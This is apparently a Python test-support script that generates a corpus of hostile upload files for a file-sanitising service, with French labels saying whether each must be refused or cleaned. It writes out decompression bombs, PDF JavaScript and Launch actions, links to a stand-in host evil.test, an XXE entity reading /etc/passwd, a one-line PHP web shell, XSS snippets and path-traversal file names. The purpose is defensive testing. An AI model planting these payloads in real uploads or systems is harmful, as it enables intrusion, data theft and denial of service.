"""Hostile files (S1), made by this script, with what must become of each one.

A « refused » file is not accepted; a « harmless » one is, without what was hidden in it.
« python -m tests.support.corpus <folder> » writes them in a folder.
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image, PngImagePlugin

from tests.support.uploads import pdf, picture

REFUSED, HARMLESS = "refused", "harmless"
LIMIT = 10_000_000
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
XMP = b"http://ns.adobe.com/xap/1.0/\0"
PLACE = b"45.1667N 5.7667E"
HIDDEN = (EICAR, SCRIPT, PHP, PLACE, b"PK\x03\x04")


class Hostile(NamedTuple):
    label: str
    name: str
    make: Callable[[], bytes]
    promise: str = REFUSED

    def __str__(self):
        return self.label


# Pieces


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("cv.exe", b"MZ")
    return out.getvalue()


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png(*chunks, size=(1, 1), header=b"\x08\x02\x00\x00\x00"):
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">II", *size) + header)
    return start + b"".join(chunks) + chunk(b"IEND", b"")


def pixels():
    return chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))


@cache
def zeros(megabytes):
    """Compresses that many megabytes of zeros."""
    packer = zlib.compressobj(9)
    block = bytes(1_000_000)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def swollen(kind):
    return png(chunk(kind, b"a\0\0" + zeros(1000)), pixels())


def segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg_with(*segments):
    made = picture()
    return made[:2] + b"".join(segments) + made[2:]


def jpeg_of(width, height):
    """Makes a small photograph whose header announces another size."""
    made = picture()
    at = made.index(b"\xff\xc0") + 5
    return made[:at] + struct.pack(">HH", height, width) + made[at + 4 :]


def located():
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = PLACE.decode()
    exif.get_ifd(0x8825)[2] = (45.0, 10.0, 0.0)
    return picture(exif=exif)


def many_scans():
    """Makes a progressive photograph that repeats its last scan: a small file, slow to decode."""
    made = picture(size=(3000, 3000), progressive=True)
    last = made.rindex(b"\xff\xda")
    scan = made[last:-2]
    return made[:-2] + scan * min(20_000, (LIMIT - len(made)) // len(scan)) + b"\xff\xd9"


def frames(count):
    out = io.BytesIO()
    images = [Image.new("RGB", (40, 30), (n % 256, 0, 0)) for n in range(count)]
    images[0].save(out, "PNG", save_all=True, append_images=images[1:])
    return out.getvalue()


def two_photographs():
    out = io.BytesIO()
    second = Image.new("RGB", (40, 30), "red")
    Image.new("RGB", (40, 30)).save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def texts(**values):
    info = PngImagePlugin.PngInfo()
    for name, value in values.items():
        info.add_text(name, value)
    return picture(form="PNG", pnginfo=info)


# Acting PDF


def root(**values):
    def change(document):
        for name, value in values.items():
            document.Root[f"/{name}"] = value

    return lambda: pdf(change=change)


def script():
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def act(kind, **more):
    return root(OpenAction=Dictionary(S=Name(f"/{kind}"), **more))


def link(kind, **more):
    """Makes a PDF with a link that runs this action when it is clicked."""

    def change(document):
        action = Dictionary(**({"S": Name(f"/{kind}")} if kind else {}), **more)
        page = document.pages[0]
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action)])

    return lambda: pdf(change=change)


def note(subtype, **more):
    def change(document):
        document.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), **more)]
        )

    return lambda: pdf(change=change)


def attached(name="cv.exe", content=b"MZ" + EICAR):
    def change(document):
        document.attachments[name] = content

    return pdf(change=change)


def external(document):
    place = Dictionary(Type=Name.Filespec, FS=Name.URL, F="http://evil.test/a")
    document.pages[0].Contents = Stream(document, b"", F=place)


def for_old_printers(document):
    drawing = Stream(document, b"showpage", Type=Name.XObject, Subtype=Name.PS)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(A=drawing))


def referring(document):
    """Draws a form whose proxy is here, and whose drawing is in another file."""
    there = Dictionary(F=Dictionary(Type=Name.Filespec, F="//evil.test/a.pdf"), Page=0)
    box = Array([0, 0, 9, 9])
    form = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=box, Ref=there)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(A=form))


def sized(side, *, unit=1):
    def change(document):
        document.pages[0].obj.MediaBox = Array([0, 0, side, side])
        document.pages[0].obj.UserUnit = unit

    return change


def calls_home(document):
    address = Dictionary(S=Name.URI, URI="https://evil.test/")
    document.pages[0].AA = Dictionary(O=address)


def script_in_a_stream(document):
    code = document.make_stream(b"app.alert(1)")
    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.JavaScript, JS=code))


def on_page(document):
    document.pages[0].AA = Dictionary(O=script())


def in_names(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))


def unreachable(document):
    document.make_indirect(Stream(document, EICAR))


def compressed():
    modes = pikepdf.ObjectStreamMode.generate
    return pdf(change=in_names, object_stream_mode=modes)


def encrypted(**passwords):
    return lambda: pdf(encryption=pikepdf.Encryption(**passwords))


def written(*objects, trailer=b"", root_number=1):
    """Writes a PDF byte by byte, for what a library refuses to write."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (len(places) + 1, root_number, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"


def escaped():
    return written(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /#4aS (x) >> >>",
        PAGES,
        PAGE,
    )


def nested():
    return written(CATALOG, PAGES, PAGE, b"[" * 200_000 + b"]" * 200_000)


def looped():
    return written(CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def doubled():
    """Nests forty levels that each hold the next one twice: 10^12 pages in two thousand bytes."""
    levels = [
        b"<< /Type /Pages /Count 2 /Kids [%d 0 R %d 0 R] >>" % (number + 1, number + 1)
        for number in range(2, 42)
    ]
    return written(CATALOG, *levels, PAGE)


def crowded():
    return written(CATALOG, PAGES, PAGE, *[b"[ 1 2 3 ]"] * 150_000)


def streamed(data, entries=b""):
    body = b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(data), entries)
    return body + data + b"\nendstream"


def content_bomb():
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return written(CATALOG, PAGES, page, streamed(zeros(1500)))


def object_bomb():
    """Puts the objects in a stream that decompresses to a gigabyte and a half."""
    body = streamed(zeros(1500), b"/Type /ObjStm /N 1 /First 10")
    start = b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\n"
    at = len(start)
    rows = [(0, 0, 0), (1, 9, 0), (2, 1, 0), (1, at, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    entries = b"/Type /XRef /W [1 4 1] /Size 4 /Root 2 0 R"
    return (
        start
        + b"3 0 obj\n"
        + streamed(zlib.compress(table), entries)
        + b"\nendobj\n"
        + (b"startxref\n%d\n%%%%EOF\n" % at)
    )


def picture_bomb():
    image = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /I 4 0 R >> "
        b">> >>"
    )
    return written(CATALOG, PAGES, page, streamed(zeros(3), image + b" /ColorSpace /DeviceGray"))


def picture_of(data, kind):
    """Makes a PDF that draws a picture of one point, says its dictionary."""

    def change(document):
        entries = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 1, "/Height": 1}
        entries |= {"/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 8, "/Filter": Name(kind)}
        document.pages[0].Resources = Dictionary(
            XObject=Dictionary(A=Stream(document, data, Dictionary(entries)))
        )

    return pdf(change=change)


def jpeg_2000_of(side):
    size = struct.pack(">HHIIII", 41, 0, side, side, 0, 0)
    return b"\xff\x4f\xff\x51" + size + struct.pack(">IIII", side, side, 0, 0) + b"\xff\xd9"


def two_headers():
    return jpeg_2000_of(1) + jpeg_2000_of(60_000)


def jbig2_of(side, *, kind=48):
    page = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">II", 1, 1) + bytes(11)
    data = struct.pack(">II", side, side) + bytes(11)
    return page + struct.pack(">IBBBI", 1, kind, 0, 1, len(data)) + data


def faxed():
    image = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 1"
    options = b"/ColorSpace /DeviceGray /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
    body = b"<< %s %s /Filter /CCITTFaxDecode /Length 1 >>\nstream\n \nendstream" % (image, options)
    resources = b"/Resources << /XObject << /A 4 0 R >> >> >>"
    return written(CATALOG, PAGES, PAGE.removesuffix(b">>") + resources, body)


def shared_drawing():
    """Draws two megabytes of marks on each of fifty pages, in twenty thousand bytes."""

    def change(document):
        drawing = document.make_stream(zlib.compress(b"/P BMC 0 0 m 9 9 l S EMC\n" * 80_000))
        drawing.Filter = Name.FlateDecode
        for page in document.pages:
            page.obj.Contents = drawing

    return pdf(pages=50, change=change)


def misplaced(made):
    """Moves the table of objects, which is then searched for them."""
    at = made.rindex(b"startxref\n") + len(b"startxref\n")
    return made[:at] + b"7\n%%EOF\n"


def updated():
    """Makes a harmless document, then appends an update with a script to its catalogue."""
    first = written(CATALOG, PAGES, PAGE)
    at, before = len(first), first.rindex(b"xref\n0")
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"
    body = b"1 0 obj\n%s\nendobj\n" % catalog
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n"
    return first + body + table % (at, before) + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))


def stuffed(made, size):
    """Adds spaces between the table and the last lines, where they change no offset."""
    at = made.rindex(b"startxref")
    return made[:at] + b" " * (size - len(made)) + made[at:]


PDF_LABELS = [
    ("exécutable nommé PDF", lambda: b"MZ\x90\x00" + bytes(200)),
    ("page HTML nommée PDF", lambda: b"<html>" + SCRIPT),
    ("texte nommé PDF", lambda: b"Bonjour"),
    ("EICAR nommé PDF", lambda: EICAR),
    ("PDF d’un octet", lambda: b"%"),
    ("PDF vide", lambda: b""),
    ("en-tête seul", lambda: b"%PDF-1.7\n"),
    ("en-tête après 1 024 octets", lambda: bytes(1024) + pdf()),
    ("PDF tronqué", lambda: pdf(pages=20)[:-400]),
    ("PDF coupé en deux", lambda: pdf(pages=20)[: len(pdf(pages=20)) // 2]),
    ("PDF trop lourd", lambda: stuffed(pdf(), LIMIT + 1)),
    ("mot de passe pour ouvrir", encrypted(user="a", owner="b")),
    ("programme joint", attached),
    ("porte-documents", root(Collection=Dictionary())),
    ("pièce jointe en note", note("FileAttachment", FS=Dictionary(EF=Dictionary(F="a")))),
    ("média riche", note("RichMedia", RichMediaContent=Dictionary())),
    ("écran", note("Screen")),
    ("son", note("Sound")),
    ("trois dimensions", note("3D")),
    ("formulaire XFA", root(AcroForm=Dictionary(XFA="<xdp/>", Fields=Array([])))),
    ("page tirée d’un autre fichier", lambda: pdf(change=external)),
    ("dessin PostScript", lambda: pdf(change=for_old_printers)),
    ("page de 10¹⁸ points", lambda: pdf(change=sized(10**9, unit=10**9))),
    ("page sans largeur", lambda: pdf(change=sized(0))),
    ("51 pages", lambda: pdf(pages=51)),
    ("10 000 pages", lambda: pdf(pages=10_000)),
    ("aucune page", lambda: pdf(pages=0)),
    ("pages en boucle", looped),
    ("mille milliards de pages", doubled),
    ("bombe dans une page", content_bomb),
    ("même dessin lourd sur 50 pages", shared_drawing),
    ("bombe dans un flux d’objets", object_bomb),
    ("tableaux emboîtés 200 000 fois", nested),
    ("image de 3 600 Mpx", picture_bomb),
    ("image de 1 Go compressé", lambda: picture_of(zeros(1000), "/FlateDecode")),
    (
        "image JPEG de 4 milliards de points",
        lambda: picture_of(jpeg_of(65_500, 65_500), "/DCTDecode"),
    ),
    ("JPEG 2000 de 3 600 Mpx", lambda: picture_of(jpeg_2000_of(60_000), "/JPXDecode")),
    ("second en-tête de JPEG 2000", lambda: picture_of(two_headers(), "/JPXDecode")),
    ("JBIG2 de 3 600 Mpx", lambda: picture_of(jbig2_of(60_000), "/JBIG2Decode")),
    ("région JBIG2 de 3 600 Mpx", lambda: picture_of(jbig2_of(60_000, kind=38), "/JBIG2Decode")),
    ("télécopie de 3 600 Mpx", faxed),
]
STILL_PDF = [
    ("ouverture à une page", "cv.pdf", root(OpenAction=Array([0, Name.Fit]))),
    ("HTML avant le PDF", "cv.pdf", lambda: SCRIPT + b"\n" + pdf()),
    ("archive avant le PDF", "cv.pdf", lambda: archive() + pdf()),
    ("photographie nommée PDF", "cv.pdf", picture),
    ("mot de passe pour imprimer", "cv.pdf", encrypted(user="", owner="b")),
    ("script à l’ouverture", "cv.pdf", root(OpenAction=script())),
    ("script dans les noms", "cv.pdf", lambda: pdf(change=in_names)),
    ("script d’une page", "cv.pdf", lambda: pdf(change=on_page)),
    ("script dans un flux d’objets", "cv.pdf", compressed),
    ("script aux noms codés", "cv.pdf", escaped),
    ("script ajouté en mise à jour", "cv.pdf", updated),
    ("script dans un objet retrouvé", "cv.pdf", lambda: misplaced(updated())),
    ("script suivi d’un autre acte", "cv.pdf", act("GoTo", Next=script())),
    ("script en flux", "cv.pdf", lambda: pdf(change=script_in_a_stream)),
    ("script sans type d’acte", "cv.pdf", link("", JS="app.alert(1)")),
    ("script par une adresse", "cv.pdf", link("URI", URI="javascript:app.alert(1)")),
    ("fichier par une adresse", "cv.pdf", link("URI", URI="file:////evil.test/a")),
    ("partage Windows par une adresse", "cv.pdf", link("URI", URI="\\\\evil.test\\a")),
    ("adresse sans protocole", "cv.pdf", link("URI", URI="//evil.test/a")),
    ("adresses relatives", "cv.pdf", root(URI=Dictionary(Base="file:////evil.test/"))),
    ("adresse ouverte avec la page", "cv.pdf", lambda: pdf(change=calls_home)),
    ("fil d’un autre fichier", "cv.pdf", link("Thread", F="//evil.test/a.pdf", D=0)),
    ("dessin d’un autre fichier", "cv.pdf", lambda: pdf(change=referring)),
    ("lancement d’un programme", "cv.pdf", act("Launch", F="cmd.exe")),
    ("lancement par un lien", "cv.pdf", link("Launch", F="cmd.exe")),
    ("envoi d’un formulaire", "cv.pdf", link("SubmitForm", F="https://evil.test/")),
    ("import de données", "cv.pdf", link("ImportData", F="a.fdf")),
    ("fichier distant", "cv.pdf", link("GoToR", F="//evil.test/partage")),
    ("fichier emboîté", "cv.pdf", link("GoToE", F="a.pdf")),
    ("vidéo", "cv.pdf", link("Rendition", OP=0)),
    ("acte d’un autre nom", "cv.pdf", link("Inconnu", F="//evil.test/a")),
    ("actions du document", "cv.pdf", root(AA=Dictionary(WC=script()))),
    ("données d’une facture", "cv.pdf", lambda: attached("factur-x.xml", EICAR)),
    (
        "table de deux milliards d’objets",
        "cv.pdf",
        lambda: written(CATALOG, PAGES, PAGE, trailer=b"/Prev 9"),
    ),
    ("archive après le PDF", "cv.pdf", lambda: stuffed(pdf(), 2000) + archive()),
    ("EICAR que rien ne cite", "cv.pdf", lambda: pdf(change=unreachable)),
    ("EICAR en commentaire", "cv.pdf", lambda: stuffed(pdf(), 2000) + b"%" + EICAR),
    ("150 000 objets", "cv.pdf", crowded),
    ("extension double, vrai PDF", "cv.php.pdf", pdf),
    ("extension d’un programme, vrai PDF", "cv.pdf.exe", pdf),
    ("sans extension, vrai PDF", "cv", pdf),
    ("octet nul, puis une autre extension", "cv.pdf\x00.exe", pdf),
    ("extension de 300 lettres", "cv." + "b" * 300, pdf),
    ("dossier parent", "../../etc/cron.d/cv.pdf", pdf),
    ("dossier parent de Windows", "..\\..\\windows\\cv.pdf", pdf),
    ("300 lettres", "a" * 300 + ".pdf", pdf),
    ("nom sans lettre", ".pdf", pdf),
    ("sens d’écriture renversé, vrai PDF", "cv\u202egnp.pdf", pdf),
    ("sens d’écriture renversé, extension d’un programme", "cv\u202efdp.exe", pdf),
    ("retour à la ligne dans le nom", "cv\r\nSet-Cookie: a=b.pdf", pdf),
    ("guillemets dans le nom", 'cv".html".pdf', pdf),
    ("balise dans le nom", "<img src=x onerror=alert(1)>.pdf", pdf),
    ("PDF nommé JPEG", "a.jpg", pdf),
]
NAMES = [
    ("SVG avec un script", "a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT),
    ("page HTML", "a.html", lambda: SCRIPT),
    ("entités XML", "a.xml", lambda: b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ("texte à macros", "a.docm", archive),
    ("archive", "a.zip", archive),
    ("GIF", "a.gif", lambda: picture(form="GIF")),
    ("TIFF", "a.tiff", lambda: picture(form="TIFF")),
]
PICTURES = [
    ("GIF nommé JPEG", "a.jpg", lambda: picture(form="GIF")),
    ("TIFF nommé JPEG", "a.jpg", lambda: picture(form="TIFF")),
    ("EPS nommé JPEG", "a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
    ("archive nommée PNG", "a.png", archive),
    ("PHP nommé JPEG", "a.jpg", lambda: PHP),
    ("JPEG d’un octet", "a.jpg", lambda: b"\xff"),
    ("PNG vide", "a.png", lambda: b""),
    ("trois octets de JPEG, puis EICAR", "a.jpg", lambda: b"\xff\xd8\xff" + EICAR),
    ("JPEG tronqué", "a.jpg", lambda: picture(size=(400, 300))[:-300]),
    ("PNG tronqué", "a.png", lambda: picture(form="PNG", size=(400, 300))[:-40]),
    ("PNG à somme fausse", "a.png", lambda: png(b"\x00\x00\x00\x00IDATabcd")),
    ("PNG sans point", "a.png", lambda: png(pixels(), size=(0, 0))),
    ("PNG de 400 Mpx", "a.png", lambda: picture(form="PNG", mode="1", size=(20_000, 20_000))),
    ("PNG de 4 milliards de points", "a.png", lambda: png(pixels(), size=(65_535, 65_535))),
    ("PNG de 41 Mpx", "a.png", lambda: picture(form="PNG", mode="L", size=(8200, 5000))),
    ("JPEG de 4 milliards de points", "a.jpg", lambda: jpeg_of(65_500, 65_500)),
    ("WebP de 26 Mpx", "a.webp", lambda: picture(form="WEBP", size=(6500, 4001), method=0)),
    ("ruban JPEG de 65 millions de points", "a.jpg", lambda: picture(size=(65_500, 1000))),
    ("vidéo MP4 nommée HEIC", "a.heic", lambda: b"\x00\x00\x00\x18ftypisom" + bytes(99)),
    ("HEIC coupé", "a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(99)),
    ("AVIF coupé", "a.avif", lambda: picture(form="AVIF")[:-40]),
    ("WebP coupé", "a.webp", lambda: picture(form="WEBP", size=(400, 300))[:-40]),
    (
        "texte compressé de 1 Go",
        "a.png",
        lambda: swollen(b"zTXt"),
    ),
    (
        "profil compressé de 1 Go",
        "a.png",
        lambda: swollen(b"iCCP"),
    ),
]
STILL_PICTURES = [
    ("WebP nommé PNG", "a.png", lambda: picture(form="WEBP")),
    ("JPEG nommé PNG", "a.png", picture),
    ("PNG nommé JPEG", "a.jpg", lambda: picture(form="PNG")),
    ("lieu et légende en EXIF", "a.jpg", located),
    (
        "lieu en XMP",
        "a.jpg",
        lambda: jpeg_with(segment(0xE1, XMP + PLACE)),
    ),
    ("EXIF abîmé", "a.jpg", lambda: jpeg_with(segment(0xE1, b"Exif\0\0MM\x00*\xff\xff\xff\xff"))),
    ("script en commentaire", "a.jpg", lambda: jpeg_with(segment(0xFE, SCRIPT))),
    ("archive après le JPEG", "a.jpg", lambda: picture() + archive()),
    ("page HTML après le JPEG", "a.jpg", lambda: picture() + SCRIPT),
    ("PHP dans le texte d’un PNG", "a.png", lambda: texts(Comment=PHP.decode())),
    ("EICAR après le PNG", "a.png", lambda: picture(form="PNG") + EICAR),
    ("JPEG de 40 Mpx annoncés, sans les points", "a.jpg", lambda: jpeg_of(8000, 5000)),
    ("points de 1 Go dans un PNG d’un point", "a.png", lambda: png(chunk(b"IDAT", zeros(1000)))),
    ("PNG animé", "a.png", lambda: frames(200)),
    ("seconde photographie cachée", "a.jpg", two_photographs),
    ("100 000 morceaux", "a.png", lambda: png(*[chunk(b"tEXt", b"a\0b")] * 100_000, pixels())),
]
HEAVY_PICTURES = [("JPEG redessiné 20 000 fois", "a.jpg", many_scans)]

CORPUS = [
    *(Hostile(label, "cv.pdf", make) for label, make in PDF_LABELS),
    *(Hostile(*case, HARMLESS) for case in STILL_PDF),
    *(Hostile(*case) for case in NAMES + PICTURES + HEAVY_PICTURES),
    *(Hostile(*case, HARMLESS) for case in STILL_PICTURES),
]


def write(folder):
    for number, case in enumerate(CORPUS):
        path = folder / f"{number:03} {case.label}".replace("/", " ")
        path.write_bytes(case.make())


if __name__ == "__main__":
    write(Path(sys.argv[1]))
